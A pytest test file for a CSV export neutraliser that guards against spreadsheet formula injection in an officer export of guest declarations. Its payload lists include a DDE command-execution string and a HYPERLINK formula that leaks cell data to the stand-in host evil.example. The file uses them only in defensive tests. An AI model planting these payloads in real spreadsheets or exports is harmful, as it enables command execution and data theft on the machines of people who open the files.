"""Formula injection (OWASP "CSV injection"): the neutraliser, and the officer export through it."""

from __future__ import annotations

import csv
import io

import pytest
from sqlalchemy import select
from sqlalchemy.orm import Session

from api.exports import FORMULA_TRIGGERS, safe_cell
from api.models import Declaration, Establishment
from tests.api.factories import declaration_body, officer_headers, register_host
from tests.api.testclient import TestClient


@pytest.mark.parametrize(
    "value",
    ["=cmd|' /C calc'!A0", '=HYPERLINK("http://x","y")', "+1+1", "-A", "@SUM(A1)", "\tX", "\rX"],
)
def test_formula_starts_are_neutralised(value: str) -> None:
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize(
    ("value", "expected"), [("KIM MIN", "KIM MIN"), (None, ""), (12, "12"), ("a=b", "a=b")]
)
def test_ordinary_values_pass_unchanged(value: object, expected: str) -> None:
    assert safe_cell(value) == expected


# The payloads of issue 10: formula starts that spreadsheet programs execute or follow.
PAYLOADS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "-A", "@SUM(1)"]
# Every text column a host or guest can type into, as stored (the API's own checks refuse most of these
# payloads on input; the export must stay safe for whatever the database holds).
DECLARATION_TEXT = ("full_name", "nationality", "document_number", "visa_number", "port_of_entry", "room")
ESTABLISHMENT_TEXT = ("name", "ward")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_officer_export_neutralises_formulas_in_every_text_column(
    client: TestClient, session: Session, payload: str
) -> None:
    host = register_host(client)
    filed = client.post("/v1/declarations", json=declaration_body(), headers=host.headers)
    assert filed.status_code == 201, filed.text
    decl = session.scalars(select(Declaration)).one()
    for column in DECLARATION_TEXT:
        setattr(decl, column, payload[: _width(Declaration, column)])
    est = session.get(Establishment, host.id)
    assert est is not None
    for column in ESTABLISHMENT_TEXT:
        setattr(est, column, payload)
    session.commit()

    r = client.get("/v1/declarations/export.csv", headers=officer_headers(session))
    assert r.status_code == 200, r.text
    header, row = list(csv.reader(io.StringIO(r.text)))
    cells = dict(zip(header, row, strict=True))
    for column in (
        "full_name",
        "nationality",
        "visa_number",
        "port_of_entry",
        "room",
        "establishment_name",
        "ward",
    ):
        assert cells[column].startswith("'" + payload[:2]), (column, cells[column])
    assert not [cell for cell in row if cell.startswith(FORMULA_TRIGGERS)]


def _width(model: type[Declaration], column: str) -> int:
    length = getattr(model.__table__.c[column].type, "length", None)
    return int(length or 1000)
